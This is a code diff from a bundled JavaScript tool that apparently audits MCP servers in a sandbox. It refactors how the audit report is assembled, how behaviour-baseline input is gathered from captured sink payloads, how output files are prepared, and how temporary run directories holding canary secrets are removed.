-                transport: http?.flavour ?? 'stdio',
-                ...(http ? { url: spokenUrl(http, status) } : {}),
-                identity,
-                info: probe.serverInfo,
-                ...(probe.protocolVersion ? { protocolVersion: probe.protocolVersion } : {}),
-                ...(settings.launch ? { package: settings.launch.package } : {})
-            },
-            sandbox: {
-                network: settings.network,
-                method,
-                failOn: settings.failOn,
-                fs: settings.fs,
-                ...(settings.network === 'sandbox' ? { captureBytes: settings.captureBytes } : {}),
-                ...(containment && containment.masked.length > 0 ? { masked: containment.masked } : {}),
-                ...(changesArchive ? { changesArchive } : {}),
-                ...(descriptors ? { descriptors } : {})
-            },
-            startedAt: new Date(started).toISOString(),
-            durationMs: Date.now() - started,
-            ...(incomplete ? { incomplete } : {}),
+        const report = assembleReport({
+            settings,
+            method: choice.method,
+            startedAt,
+            probe,
+            ...(settings.http ? { url: spokenUrl(settings.http, evidence.status) } : {}),
+            incomplete,
+            sandbox: { masked: containment?.masked ?? [], changesArchive: evidence.changesArchive, descriptors: evidence.descriptors },
             manifest,
-            calls: probe.calls,
-            coverage,
-            observed,
-            findings,
             rugPull,
+            observed,
             ...(behaviour ? { behaviour } : {}),
-            summary: (0,model/* summarize */.eh)(findings),
-            exitCode
-        };
+            judged
+        });
         await (0,output_files/* writeReportFile */.aS)(files.report, report, logger);
         return { report, files };
     }
     finally {
-        // Called off during the setup: the init never got its config and is waiting for it.
-        if (launcher && !configSent)
-            await launcher.cancel();
         await (removal ?? removeRunDir(runDir));
     }
+}
+/** What the behaviour baseline compares: this run's profile, and what the sink received on the server's sockets. */
+function baselineInput(settings, sandbox, session, evidence, observed) {
+    const { probe } = session;
+    return {
+        observed,
+        sinkPayloads: evidence.sinkSeen?.payloads.filter((payload) => payload.via === 'socket') ?? [],
+        calls: probe.calls,
+        shutdownAt: probe.shutdownAt,
+        home: sandbox.homePath,
+        cwd: settings.cwd,
+        ...(sandbox.containment ? { machineName: sandbox.containment.identity.hostname } : {}),
+        identity: settings.identity,
+        stateDir: settings.stateDir,
+        baselinePath: settings.baselinePath,
+        accept: settings.acceptBaseline
+    };
+}
+/** The out-dir made, its report files checked, trace.log created empty (strace writes it; its identity is checked before it is read). */
+async function prepareOutputs(outDir) {
+    await (0,output_files/* prepareOutDir */.fW)(outDir);
+    const files = { trace: (0,external_node_path_.join)(outDir, 'trace.log'), manifest: (0,external_node_path_.join)(outDir, 'manifest.json'), report: (0,external_node_path_.join)(outDir, 'report.json') };
+    // Refused now rather than after the audit; checked again when each file is written.
+    for (const path of [files.manifest, files.report])
+        await (0,output_files/* refuseNonRegular */.uA)(path);
+    return { files, trace: { path: files.trace, identity: await (0,output_files/* createEmptyOutputFile */.F_)(files.trace) } };
+}
+/** Run directories of audits in progress: canary secrets and the server's scratch layers. */
+const activeRunDirs = new Set();
+/** For an exit that cannot wait for the audit to finish (a second Ctrl-C): leave no run directory behind. */
+function removeRunDirsNow() {
+    for (const dir of activeRunDirs)
+        (0,external_node_fs_.rmSync)(dir, { recursive: true, force: true });
+    activeRunDirs.clear();
+}
+async function removeRunDir(runDir) {
+    await (0,promises_.rm)(runDir, { recursive: true, force: true }).catch(() => undefined);
+    activeRunDirs.delete(runDir);
 }
 
 ;// CONCATENATED MODULE: ./src/launch/cache-entry.ts
